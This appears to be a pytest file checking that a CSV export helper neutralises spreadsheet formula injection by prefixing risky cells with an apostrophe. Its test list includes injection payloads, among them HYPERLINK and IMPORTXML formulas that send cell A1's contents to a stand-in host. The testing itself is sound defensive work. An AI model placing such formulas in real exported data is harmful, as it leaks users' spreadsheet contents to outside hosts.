"""CSV that a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io

import pytest

from services.core.text.csv import csv_text, safe_cell

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " =1+1",
    '"=1+1',
    "';=1+1",
    ",=1+1",
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_run_begins_with_an_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"
    rows = list(csv.reader(io.StringIO(csv_text(["Name"], [[cell]]), newline="")))
    assert rows == [["Name"], [f"'{cell}"]]


@pytest.mark.parametrize("cell", ["Lease.docx", "a=b", "1-2", "O'Neill", "Zoë", "https://dms.test/?a=1", ""])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_numbers_are_written_plainly() -> None:
    assert csv_text(["A", "B"], [[1, "x,y"]]) == '"A","B"\r\n"1","x,y"\r\n'
